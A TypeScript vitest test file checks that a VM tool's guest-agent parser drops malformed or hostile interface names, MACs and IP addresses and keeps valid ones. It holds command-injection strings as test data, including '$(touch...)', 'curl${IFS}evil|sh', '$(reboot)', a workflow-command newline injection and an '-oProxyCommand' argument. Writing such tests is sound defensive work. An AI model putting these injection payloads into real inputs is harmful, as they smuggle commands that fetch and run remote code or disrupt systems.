// The guest agent's answer is written by whoever is root in the guest: only well-formed interfaces, MACs and
// addresses come out of it, in bounded numbers, and ip_cidr picks with node:net's BlockList.
import { isIP } from 'node:net';
import { describe, expect, test } from 'vitest';
import { agentInterfaces, guestInfo } from '../../src/vm/guest.js';

const MAC = 'bc:24:11:00:00:01';
const addr = (a: unknown, t: unknown = 'ipv4', prefix?: unknown) => ({ 'ip-address': a, 'ip-address-type': t, prefix });
const nic = (addresses: unknown[], extra: Record<string, unknown> = {}) => ({ name: 'eth0', 'hardware-address': MAC, 'ip-addresses': addresses, ...extra });
const info = (result: unknown, o: { family?: 'ipv4' | 'ipv6' | 'any'; cidr?: string } = {}) =>
  guestInfo(result, { family: o.family ?? 'any', cidr: o.cidr, macs: [MAC.toUpperCase()] });

describe('addresses', () => {
  test('shell text around an address, or a wrong ip-address-type, drops it', () => {
    const g = info([
      nic([
        addr('10.0.0.5$(touch${IFS}/tmp/pwned)'),
        addr('fd00::1;curl${IFS}evil|sh', 'ipv6'),
        addr('10.0.0.6', 'ipv6'),
        addr('fd00::6', 'ipv4'),
        addr('10.0.0.8', 'ipv5'),
        addr('fe80::1%eth0', 'ipv6'),
        addr(' 10.0.0.9'),
        addr(167772170),
        addr('10.0.0.7', 'ipv4', 24),
        addr('fd00::7', 'ipv6', 64),
      ]),
    ]);
    expect(g.ipv4).toEqual(['10.0.0.7']);
    expect(g.ipv6).toEqual(['fd00::7']);
    expect(g.ip).toBe('10.0.0.7');
    expect(g.interfaces[0].addresses).toEqual([
      { address: '10.0.0.7', family: 'ipv4', prefix: 24 },
      { address: 'fd00::7', family: 'ipv6', prefix: 64 },
    ]);
  });

  test('a prefix is kept only when it is an integer in range', () => {
    const g = info([nic([addr('10.0.0.1', 'ipv4', 33), addr('10.0.0.2', 'ipv4', '24'), addr('10.0.0.3', 'ipv4', 1.5), addr('fd00::1', 'ipv6', 128)])]);
    expect(g.interfaces[0].addresses.map((a) => a.prefix)).toEqual([undefined, undefined, undefined, 128]);
  });

  test('loopback, link-local and unspecified addresses are not the VM address', () => {
    const g = info([nic([addr('127.0.0.1'), addr('169.254.1.1'), addr('0.0.0.0'), addr('::1', 'ipv6'), addr('::', 'ipv6'), addr('FE80::1', 'ipv6'), addr('10.1.2.3')])]);
    expect(g.ipv4).toEqual(['10.1.2.3']);
    expect(g.ipv6).toEqual([]);
  });
});

describe('ip_cidr and ip_family (BlockList)', () => {
  const result = [nic([addr('192.168.1.10'), addr('10.20.30.40'), addr('fd00:1::5', 'ipv6'), addr('2001:db8::5', 'ipv6')])];
  test.each([
    ['10.0.0.0/8', 'any', '10.20.30.40'],
    ['192.168.0.0/16', 'ipv4', '192.168.1.10'],
    ['2001:db8::/32', 'any', '2001:db8::5'],
    ['fd00:1::/64', 'ipv6', 'fd00:1::5'],
    ['172.16.0.0/12', 'any', undefined],
    ['0.0.0.0/0', 'ipv4', '192.168.1.10'],
    ['::/0', 'ipv6', 'fd00:1::5'],
  ] as const)('%s with %s → %s', (cidr, family, ip) => {
    expect(info(result, { cidr, family }).ip).toBe(ip);
  });
});

describe('interfaces', () => {
  test('hostile names and MACs are not reported; the interface and its good addresses are', () => {
    const list = agentInterfaces([
      nic([addr('10.0.0.1')], { name: 'eth0$(reboot)', 'hardware-address': 'bc:24:11:00:00:01; reboot' }),
      nic([], { name: 'x\n::warning::pwned' }),
      nic([], { name: '-oProxyCommand=x' }),
      nic([], { name: 'n'.repeat(65) }),
      nic([], { name: 42, 'hardware-address': ['bc:24:11:00:00:01'] }),
      nic([], { name: 'veth1a2b@if3', 'hardware-address': 'BC:24:11:00:00:02' }),
    ]);
    expect(list.map((i) => [i.name, i.mac])).toEqual([
      ['', undefined],
      ['', MAC],
      ['', MAC],
      ['', MAC],
      ['', undefined],
      ['veth1a2b@if3', 'bc:24:11:00:00:02'],
    ]);
    expect(list[0].addresses).toEqual([{ address: '10.0.0.1', family: 'ipv4' }]);
  });

  test('a huge answer is cut to 64 interfaces of 64 addresses each', () => {
    const many = Array.from({ length: 500 }, (_, i) => addr(`10.0.${i >> 8}.${i & 255}`));
    const list = agentInterfaces(Array.from({ length: 5000 }, () => nic(many)));
    expect(list).toHaveLength(64);
    for (const i of list) expect(i.addresses).toHaveLength(64);
    // Every one of them carries the VM's MAC: the address lists stay bounded too.
    expect(info(Array.from({ length: 5000 }, () => nic(many))).ipv4).toHaveLength(64);
  });

  test.each([['junk'], [{}], [null], [42], [[null, 1, 'x', [], { 'ip-addresses': 'x' }, { 'ip-addresses': [null, 'x', {}] }]]])(
    'junk instead of a list (%j) is read as no addresses, without a crash',
    (result) => {
      const g = info(result);
      expect(g.ip).toBeUndefined();
      expect(g.ipv4).toEqual([]);
      for (const i of g.interfaces) expect(i.addresses.every((a) => isIP(a.address) > 0)).toBe(true);
    },
  );
});
